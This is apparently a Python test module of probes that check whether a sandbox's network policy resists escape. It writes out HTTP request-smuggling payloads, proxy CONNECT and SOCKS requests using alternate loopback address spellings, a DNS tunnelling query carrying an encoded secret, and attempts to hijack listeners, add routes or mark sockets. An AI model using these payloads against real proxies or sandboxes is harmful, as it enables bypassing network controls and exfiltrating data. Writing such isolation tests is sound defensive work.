"""Ways past a policy that allows one service of the host, by name and by address, and nothing else.

That service takes whatever a lenient server takes, answers each request with a line, and tells at
`/seen` what it was asked for: what was smuggled in is found there, whoever heard the answer. By its
name what is said to it is read; a rule about an address lets everything through, and `/seen` is
asked for there.
"""

from __future__ import annotations

import errno
import os
import socket
import struct

from .kit import (
    HOST,
    HOST_ROOT,
    HOST_USERNS,
    LIMITED,
    NETWORK,
    PATIENCE_S,
    Outcome,
    attempt,
    escaped,
    first_escape,
    held,
    inconclusive,
    probe,
    said,
)

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable
    from typing import Any

WIDER = "a policy that allows the canary too"
_PAUSE_S = 0.3
_PROXY = ("198.18.0.1", 3128)
_RESOLVER = ("127.0.0.53", 53)
_LISTENER = 1021


def _say(address: tuple[str, int], *pieces: bytes) -> bytes:
    """Say each piece on a new connection, and hear all that comes back; empty when it is cut.

    Raises:
        TimeoutError: Neither an answer nor an end came: nothing is decided.
    """
    try:
        with socket.create_connection(address, PATIENCE_S) as sock:
            return _converse(sock, *pieces)
    except TimeoutError:
        raise
    except OSError:
        return b""


def _converse(sock: socket.socket, *pieces: bytes) -> bytes:
    """Send pieces and collect the replies; raises TimeoutError as `_say`."""
    heard = b""
    try:
        for piece in pieces:
            sock.sendall(piece)
            # Await a reply to each, so that the next piece is not read as a part of it.
            sock.settimeout(_PAUSE_S if piece is not pieces[-1] else PATIENCE_S)
            try:
                heard += sock.recv(1 << 16)
            except TimeoutError:
                if piece is pieces[-1]:
                    raise
        sock.settimeout(_PAUSE_S)
        while more := sock.recv(1 << 16):
            heard += more
    except TimeoutError:
        if not heard:
            raise
    except OSError:
        pass  # it is cut
    return heard


def _say_by_name(port: int, *pieces: bytes) -> bytes:
    """To the service as `localhost`, through the proxy; where there is none nothing is in between."""
    if "http_proxy" not in os.environ:
        return _say(("127.0.0.1", port), *pieces)
    ask = f"CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n"
    try:
        with socket.create_connection(_PROXY, PATIENCE_S) as sock:
            sock.sendall(ask.encode())
            if b" 200 " not in sock.recv(1 << 16)[:20]:
                return b""
            return _converse(sock, *pieces)
    except TimeoutError:
        raise
    except OSError:
        return b""


def _seen(context: dict[str, Any], marker: str) -> Outcome:
    """Ask the service whether a request with `marker` reached it."""
    host = f"127.0.0.1:{context['service']}"
    request = f"GET /seen HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    heard = _say(("127.0.0.1", context["service"]), request.encode())
    if b" 200 " not in heard[:20]:
        return inconclusive(f"the service that is allowed does not answer: {heard[:80]!r}")
    if marker.encode() in heard:
        return escaped(f"the service was asked for {marker}")
    return held(f"the service was never asked for {marker}")


# -- requests within requests ---------------------------------------------------------------------

_CHUNKED = "Transfer-Encoding: chunked\r\n"
_POST = "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n"
# {host} is what is allowed, {smuggled} a whole request for something else, {length} its length.
_SMUGGLING = {
    "host": ("GET /{marker} HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n",),
    "two-hosts": ("GET /{marker} HTTP/1.1\r\nHost: {host}\r\nHost: elsewhere.example\r\n\r\n",),
    "absolute": ("GET http://elsewhere.example/{marker} HTTP/1.1\r\nHost: {host}\r\n\r\n",),
    "user-information": ("GET /{marker} HTTP/1.1\r\nHost: {host}@elsewhere.example\r\n\r\n",),
    "pipelined": ("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n{smuggled}",),
    "second-request": ("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n", "{smuggled}"),
    "both-lengths": (_POST + _CHUNKED + "\r\n0\r\n\r\n{smuggled}",),
    "two-lengths": (_POST + "Content-Length: 0\r\n\r\n{smuggled}",),
    "spaced-encoding": (_POST + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{smuggled}",),
    "folded-encoding": (_POST + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{smuggled}",),
    "bare-line-feeds": ("GET / HTTP/1.1\nHost: {host}\n\n{smuggled}",),
    "chunk-extension": (
        "POST / HTTP/1.1\r\nHost: {host}\r\n" + _CHUNKED + "\r\n0;a=\nb\r\n\r\n{smuggled}",
    ),
}


def _smuggle(name: str, pieces: tuple[str, ...]) -> Callable[[dict[str, Any]], Outcome]:
    def run(context: dict[str, Any]) -> Outcome:
        marker = f"smuggled-{name}-{os.getpid()}"
        smuggled = f"GET /{marker} HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n"
        host = f"localhost:{context['service']}"
        words = {"marker": marker, "smuggled": smuggled, "host": host, "length": len(smuggled)}
        say = [piece.format(**words).encode() for piece in pieces]
        plain = f"GET /plain-{marker} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        if b" 200 " not in _say_by_name(context["service"], plain.encode())[:20]:
            return inconclusive("the service is not reached by its name")
        _say_by_name(context["service"], *say)
        return _seen(context, f"/{marker}")

    return run


for _name, _pieces in _SMUGGLING.items():
    probe(
        f"network.smuggle-{_name}",
        "high",
        NETWORK,
        where=LIMITED,
        about=f"No request for another host may be smuggled to an allowed server ({_name}).",
    )(_smuggle(_name, _pieces))


# -- the proxy --------------------------------------------------------------------------------------


# Of the host's loopback: by name, with a zone, in IPv6, inside what translators and tunnels take apart.
_SPELLINGS = (
    *("127.0.0.1", "LOCALHOST.", "0.0.0.0", "127.1", "0x7f.1", "2130706433", "[::1]", "[::1%lo]"),
    *("[::]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
)


def _canary(context: dict[str, Any]) -> int:
    return int(context["tcp"]["v4"])


def _hears_canary(heard: bytes, granted: bytes, how: str) -> Outcome:
    if granted in heard[:64]:
        return escaped(f"{how}: {heard[:40]!r}")
    return held(f"{how}: {heard[:40]!r}" if heard else f"{how}: cut")


@probe("network.proxy-connect", "critical", WIDER, where=LIMITED)
def proxy_connect(context: dict[str, Any]) -> Outcome:
    """The proxy inside must not connect to a service of the host that no rule allows."""
    outcomes = []
    for host in _SPELLINGS:
        target = f"{host}:{_canary(context)}"
        say = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
        outcomes.append(_hears_canary(_say(_PROXY, say.encode()), b" 200", f"CONNECT {target}"))
    return first_escape(outcomes)


@probe("network.proxy-url", "critical", WIDER, where=LIMITED)
def proxy_url(context: dict[str, Any]) -> Outcome:
    """The proxy inside must not fetch from a service of the host that no rule allows."""
    target = f"127.0.0.1:{context['other_service']}"
    say = f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n"
    return _hears_canary(_say(_PROXY, say.encode()), b" 200 ", f"GET http://{target}/")


@probe("network.proxy-socks", "critical", WIDER, where=LIMITED)
def proxy_socks(context: dict[str, Any]) -> Outcome:
    """The proxy inside must not be led by SOCKS to a service of the host that no rule allows."""
    outcomes = []
    port = struct.pack("!H", _canary(context))
    for what, target in (
        ("an address", b"\x01" + socket.inet_aton("127.0.0.1")),
        ("a name", b"\x03\x09localhost"),
        ("an address as a name", b"\x03\x09127.0.0.1"),
        ("a mapped address", b"\x04" + socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1")),
    ):
        heard = _say(_PROXY, b"\x05\x01\x00", b"\x05\x01\x00" + target + port)
        outcomes.append(_hears_canary(heard, b"\x05\x00\x05\x00", f"SOCKS by {what}"))
    return first_escape(outcomes)


# -- names ------------------------------------------------------------------------------------------


@probe("network.tunnel", "high", WIDER, where=LIMITED)
def tunnel(_context: dict[str, Any]) -> Outcome:
    """No query for a name that no rule allows may be answered, over UDP or TCP, of any type."""
    outcomes = []
    for kind in (1, 16, 28, 65):  # A, TXT, AAAA, HTTPS
        labels = b"\x14c2VjcmV0LW9mLXRoZS1o\x07example\x03com\0"
        query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)
        for over in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            outcomes.append(_ask(query, over))
    return first_escape(outcomes)


def _ask(query: bytes, over: int) -> Outcome:
    framed = query if over == socket.SOCK_DGRAM else struct.pack("!H", len(query)) + query
    try:
        with socket.socket(socket.AF_INET, over) as sock:
            sock.settimeout(PATIENCE_S)
            sock.connect(_RESOLVER)
            sock.sendall(framed)
            answer = sock.recv(512)
    except TimeoutError:
        return inconclusive("query: neither an answer nor a refusal")
    except OSError as exc:
        return held(f"query: {errno.errorcode.get(exc.errno or 0, str(exc))}")
    answer = answer if over == socket.SOCK_DGRAM else answer[2:]
    code, answers = answer[3] & 15, int.from_bytes(answer[6:8], "big")
    return escaped(f"answered: {answer!r}") if answers or code == 0 else held(f"code {code}")


# -- what carries the policy ------------------------------------------------------------------------


@probe("network.take-listener", "critical", HOST_USERNS, where=LIMITED)
def take_listener(_context: dict[str, Any]) -> Outcome:
    """No process inside may listen where the policy's own sockets do, whatever is set on a socket."""
    outcomes = []
    for kind, host, port in (
        (socket.SOCK_DGRAM, *_RESOLVER),
        (socket.SOCK_STREAM, *_RESOLVER),
        (socket.SOCK_STREAM, "0.0.0.0", _LISTENER),
        (socket.SOCK_STREAM, "127.0.0.1", _LISTENER),
    ):
        outcomes.append(attempt(_bind, f"bind {host}:{port}", kind, host, port))
    return first_escape(outcomes)


def _bind(kind: int, host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, kind) as sock:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.bind((host, port))
        return "bound"


@probe("network.policy-sockets", "critical", HOST, where=LIMITED)
def policy_sockets(_context: dict[str, Any]) -> Outcome:
    """Nothing that carries the policy may be spoken to by a unix socket: abstract ones know no path."""
    with open("/proc/net/unix", "rb") as file:
        last = {line.split()[-1] for line in file}
    names = sorted(name for name in last if name.startswith(b"@"))
    outcomes = [
        attempt(_join, f"connect to {name!r}", kind, b"\0" + name[1:])
        for name in names
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET)
    ]
    return first_escape(outcomes) if outcomes else held("no abstract socket is in this network")


def _join(kind: int, address: bytes) -> str:
    with socket.socket(socket.AF_UNIX, kind) as sock:
        sock.connect(address)
        return "connected"


@probe("network.transparent-socket", "high", HOST_ROOT, where=LIMITED)
def transparent_socket(_context: dict[str, Any]) -> Outcome:
    """No socket may be made to speak for other addresses, or be marked past a rule."""
    so_mark, ip_transparent = 36, 19

    def set_option(level: int, option: int) -> int:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.setsockopt(level, option, 1)
            return sock.getsockopt(level, option)

    return first_escape(
        [
            attempt(set_option, "SO_MARK", socket.SOL_SOCKET, so_mark),
            attempt(set_option, "IP_TRANSPARENT", socket.IPPROTO_IP, ip_transparent),
        ]
    )


@probe("network.add-route", "critical", HOST_USERNS, where=LIMITED)
def add_route(_context: dict[str, Any]) -> Outcome:
    """No route may be added: what is not routed cannot be reached."""
    # rtmsg: IPv4, /8, table local, by this host, of type local; RTA_DST 11.0.0.0, RTA_OIF lo
    body = struct.pack("=BBBBBBBBI", 2, 8, 0, 0, 255, 3, 254, 2, 0)
    body += struct.pack("=HH4s", 8, 1, b"\x0b\0\0\0") + struct.pack("=HHI", 8, 4, 1)
    message = struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(PATIENCE_S)
        sock.send(message)
        code = struct.unpack("=i", sock.recv(4096)[16:20])[0]
    return escaped("RTM_NEWROUTE: worked") if code == 0 else held(f"RTM_NEWROUTE: {said(code)}")
